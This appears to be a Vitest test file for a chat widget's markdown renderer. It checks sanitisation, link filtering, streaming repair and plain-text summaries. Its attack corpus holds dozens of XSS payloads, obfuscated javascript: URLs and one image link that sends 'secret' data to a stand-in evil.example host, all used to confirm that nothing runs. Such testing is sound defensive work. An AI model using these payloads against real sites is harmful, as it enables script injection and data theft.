// @vitest-environment happy-dom
import { createElement, render } from "preact";
import { describe, expect, test } from "vitest";
import { hostToShow, safeHref, safeMedia, splitLinks } from "../src/markdown/links.ts";
import { parse } from "../src/markdown/parse.ts";
import { summary, withoutMarks } from "../src/markdown/plain.ts";
import { renderBlock, renderPlain, type Rendering } from "../src/markdown/render.tsx";
import { hasMarkdown, mend, stableEnd } from "../src/markdown/stream.ts";
import { translator } from "../src/i18n/texts.ts";

const how: Rendering = { imageHosts: ["cdn.example", "*.pictures.example"], newWindow: "opens in a new window", onLink: () => true };

function drawn(markdown: string, rendering = how): HTMLElement {
  const root = document.createElement("div");
  render(createElement("div", null, parse(markdown).map((block, i) => renderBlock(block, rendering, i))), root);
  return root;
}

/** Attacks: what must never become an element, an attribute or an address that runs. */
const CORPUS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<a href=\"javascript:alert(1)\">x</a>",
  "<div style=\"background:url(javascript:alert(1))\">x</div>",
  "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](java&#10;script:alert(1))",
  "[x](&#x6A;avascript:alert(1))",
  "[x](&#106;avascript&#58;alert(1))",
  "[x]( javascript:alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](blob:https://shop.example/1)",
  "[x](file:///etc/passwd)",
  "[x](//evil.example)",
  "[x](/relative)",
  "<javascript:alert(1)>",
  "![x](javascript:alert(1))",
  "![x](data:text/html,<script>alert(1)</script>)",
  "![x](https://evil.example/steal?data=secret)",
  "![x\" onerror=\"alert(1)](https://cdn.example/a.png)",
  "[x](https://a.example \"\\\" onmouseover=alert(1)\")",
  "[a]: javascript:alert(1)\n\n[a]",
  "`<img src=x onerror=alert(1)>`",
  "```html\n<script>alert(1)</script>\n```",
  "| <img src=x onerror=alert(1)> |\n|---|\n| [x](javascript:alert(1)) |",
  "> <script>alert(1)</script>",
  "- <script>alert(1)</script>",
  "# <script>alert(1)</script>",
  "**<script>alert(1)</script>**",
  "<x\tonclick=alert(1)>click",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
];

describe("markdown of a bot", () => {
  test.each(CORPUS)("nothing runs: %s", (attack) => {
    const root = drawn(attack);
    const tags = new Set([...root.querySelectorAll("*")].map((element) => element.localName));
    for (const tag of ["script", "iframe", "svg", "style", "math", "form", "object", "noscript", "x"]) expect(tags).not.toContain(tag);
    for (const element of root.querySelectorAll("*")) {
      for (const name of element.getAttributeNames()) expect(name.startsWith("on")).toBe(false);
      expect(element.hasAttribute("style")).toBe(false);
      const href = element.getAttribute("href");
      if (href !== null) expect(href).toMatch(/^(https?|mailto|tel):/i);
      const src = element.getAttribute("src");
      if (src !== null) expect(new URL(src).host).toBe("cdn.example");
    }
  });

  test("raw HTML is shown as the text it is", () => {
    expect(drawn("a <b>bold</b> claim").textContent).toBe("a <b>bold</b> claim");
    expect(drawn("<div>block</div>").textContent).toBe("<div>block</div>");
  });

  test("marks become elements", () => {
    const root = drawn("# T\n\n**b** _i_ ~~s~~ `c`\n\n1. one\n2. two\n\n- [x] done\n\n> q\n\n```js\nx\n```\n\n|a|b|\n|-|-:|\n|1|2|\n\n---");
    for (const selector of ["strong", "em", "del", "code", "ol li", "ul .pt-md-task", "blockquote", "pre[data-lang=js]", "table td[data-align=right]", "hr", ".pt-md-h1"]) {
      expect(root.querySelector(selector), selector).not.toBeNull();
    }
  });

  test("a link opens elsewhere, without a way back", () => {
    const link = drawn("[docs](https://example.com/docs)").querySelector("a");
    expect(link?.getAttribute("target")).toBe("_blank");
    expect(link?.getAttribute("rel")).toBe("noopener noreferrer nofollow ugc");
    expect(link?.textContent).toContain("opens in a new window");
  });

  test("a page may hold a link back", () => {
    const link = drawn("[docs](https://example.com)", { ...how, onLink: () => false }).querySelector("a");
    const click = new Event("click", { cancelable: true, bubbles: true });
    link?.dispatchEvent(click);
    expect(click.defaultPrevented).toBe(true);
  });

  test("pictures come only from hosts the channel names; others are links", () => {
    expect(drawn("![cat](https://cdn.example/cat.png)").querySelector("img")?.getAttribute("alt")).toBe("cat");
    expect(drawn("![cat](https://a.pictures.example/cat.png)").querySelector("img")).not.toBeNull();
    const other = drawn("![cat](https://evil.example/cat.png)");
    expect(other.querySelector("img")).toBeNull();
    expect(other.querySelector("a")?.textContent).toContain("cat");
  });

  test("deep nesting ends in text, not in a fault", () => {
    expect(() => drawn(">".repeat(300) + " deep")).not.toThrow();
    expect(drawn("- ".repeat(60) + "x").textContent).toContain("x");
  });
});

describe("addresses", () => {
  test("http, https, mailto and tel pass", () => {
    for (const good of ["https://a.example", "http://a.example/x?y#z", "mailto:a@b.example", "tel:+4722000000"]) expect(safeHref(good)).toBe(good);
    for (const bad of ["javascript:alert(1)", "data:text/html,x", "blob:x", "/x", "", "https://a b.example", "ftp://x"]) expect(safeHref(bad)).toBeUndefined();
  });
  test("media may come from this page and from http(s)", () => {
    expect(safeMedia("/files/1")).toBe("/files/1");
    expect(safeMedia("//evil.example/x")).toBeUndefined();
    expect(safeMedia("data:text/html,x")).toBeUndefined();
    expect(safeMedia("javascript:alert(1)")).toBeUndefined();
  });
  test("a host is spelled out where the text could deceive", () => {
    expect(hostToShow("https://evil.example/login", "https://bank.example")).toBe("evil.example");
    expect(hostToShow("https://www.bank.example/login", "bank.example")).toBe("");
    expect(hostToShow("https://xn--bnk-sna.example", "our bank")).toBe("xn--bnk-sna.example");
    expect(hostToShow(`https://${"a".repeat(50)}.example`, "docs")).toContain("aaaa");
    expect(hostToShow("https://example.com/docs", "the docs")).toBe("");
  });
  test("addresses in plain text are found without the full stop behind them", () => {
    expect(splitLinks("see https://a.example/x, or (https://b.example/y).")).toEqual(["see ", "https://a.example/x", ", or (", "https://b.example/y", ")."]);
    const root = document.createElement("div");
    render(createElement("div", null, renderPlain("go to javascript:alert(1) or https://a.example", how)), root);
    expect([...root.querySelectorAll("a")].map((link) => link.getAttribute("href"))).toEqual(["https://a.example"]);
  });
});

describe("a text that grows", () => {
  test("a block is stable once the next one has begun", () => {
    expect(stableEnd("one\n\ntwo", 0)).toBe(0);
    expect("one\n\ntwo\n".slice(0, stableEnd("one\n\ntwo\n", 0))).toBe("one\n\n");
    expect(stableEnd("```\na\n\nb\n\nc\n", 0)).toBe(0);
    expect(stableEnd("- a\n\n  more\n", 0)).toBe(0);
  });
  test.each([
    ["this is **bol", "this is **bol**"],
    ["this is **", "this is "],
    ["some `cod", "some `cod`"],
    ["see [the do", "see the do"],
    ["see [the docs](https://exa", "see the docs"],
    ["see [the docs](https://example.com)", "see [the docs](https://example.com)"],
    ["done\n- ", "done\n"],
    ["done\n## ", "done\n"],
    ["snake_case and 2 * 3", "snake_case and 2 * 3"],
    ["**a** and *b", "**a** and *b*"],
    ["```js\nconst a = **", "```js\nconst a = **"],
  ])("half a mark is not seen: %j", (tail, shown) => {
    expect(mend(tail)).toBe(shown);
  });
  test("every prefix of a text is read without a fault, and its end is the whole", () => {
    const whole = "Hello **world**, see [docs](https://example.com).\n\n1. one\n2. `two`\n\n```ts\nlet x = 1;\n```\n\nend *now*.";
    let kept = 0;
    const blocks: unknown[] = [];
    for (let i = 1; i <= whole.length; i++) {
      const text = whole.slice(0, i);
      const end = stableEnd(text, kept);
      if (end > kept) blocks.push(...parse(text.slice(kept, end)));
      kept = end;
      expect(() => parse(mend(text.slice(end)))).not.toThrow();
    }
    expect([...blocks, ...parse(whole.slice(kept))]).toEqual(parse(whole));
  });
  test("short plain answers do without the parser", () => {
    expect(hasMarkdown("Yes, we do.")).toBe(false);
    expect(hasMarkdown("Two lines\nof text")).toBe(false);
    expect(hasMarkdown("**bold**")).toBe(true);
    expect(hasMarkdown("1. one")).toBe(true);
    expect(hasMarkdown("see https://a.example")).toBe(true);
  });
});

describe("a message in words", () => {
  const t = translator("en", {});
  test("marks are not read aloud", () => {
    expect(withoutMarks("# Hi\n\n**bold** and [link](https://a.example) and `code`\n- item")).toBe("Hi bold and link and code item");
  });
  test("every type says something", () => {
    expect(summary({ type: "image", url: "x", title: "A cat" }, t)).toBe("Image: A cat");
    expect(summary({ type: "choice", text: "Size?", options: [{ label: "S", value: "s" }, { label: "M", value: "m" }] }, t)).toBe("Size? S, M");
    expect(summary({ type: "unknown", name: "hologram" }, t)).toBe("This message can't be shown here");
    expect(summary({ type: "bloc", items: [{ type: "text", text: "Two things:" }, { type: "image", url: "x", title: "A cat" }, { type: "card", title: "A dog", actions: [] }] }, t)).toBe("Two things: Image: A cat. A dog");
    expect(summary({ type: "text", text: "" }, t)).toBe("Message");
  });
});
